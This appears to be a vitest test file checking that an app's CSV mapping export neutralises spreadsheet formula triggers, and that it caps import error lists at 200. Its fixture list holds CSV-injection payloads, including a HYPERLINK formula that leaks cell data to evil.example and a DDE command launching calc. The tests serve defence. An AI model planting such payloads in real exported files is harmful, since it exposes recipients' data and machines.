import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  type MappingFileRow,
  mappingsToCsv,
  parseMappingsCsv,
} from '../../../electron/file-formats/mapping-file';

const hostile = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-',
  '-2+3',
  '@SUM(1+1)',
  "'=already quoted",
  'Plain Name Ltd',
];

const rows: MappingFileRow[] = hostile.map((name, index) => ({
  organizationId: `org-${index}`,
  organizationName: `=ORG(${index})`,
  value: { state: 'mapped', clientId: 100 + index, clientName: name, signal: 'manual', score: null },
}));

describe('mappings CSV export is safe to open in a spreadsheet', () => {
  it('no cell starts with a formula trigger (= + - @ tab CR), per OWASP CSV injection guidance', () => {
    const csv = mappingsToCsv([
      ...rows,
      {
        organizationId: 'tab',
        organizationName: '\tTabbed',
        value: { state: 'mapped', clientId: 7, clientName: '\r=1+1', signal: 'manual', score: null },
      },
    ]);
    const cells = (parse(csv.slice(1), { relax_column_count: true }) as string[][]).flat();
    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(live).toEqual([]);
    expect(cells).toContain(`'${hostile[0]}`);
  });

  it('importing our own export gives the same names back', () => {
    const parsed = parseMappingsCsv(mappingsToCsv(rows));
    if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
    expect(parsed.rows.map((row) => row.value.state === 'mapped' && row.value.clientName)).toEqual(hostile);
    expect(parsed.rows.map((row) => row.organizationName)).toEqual(hostile.map((_, i) => `=ORG(${i})`));
  });
});

describe('a bad mappings import lists at most 200 problems, then the count', () => {
  it('5,000 bad rows give the first 200 problems by line and "and 4800 more problems"', () => {
    const bad = Array.from({ length: 5_000 }, (_, i) => `org-${i},Org ${i},mapped,not-a-number,,,`);
    const parsed = parseMappingsCsv(
      `organization_id,organization_name,state,halo_client_id,halo_client_name,signal,score\n${bad.join('\n')}\n`,
    );
    if (parsed.ok) throw new Error('expected problems');
    expect(parsed.problems).toHaveLength(201);
    expect(parsed.problems[0]?.line).toBe(2);
    expect(parsed.problems[200]?.reason).toBe('and 4800 more problems');
  });
});
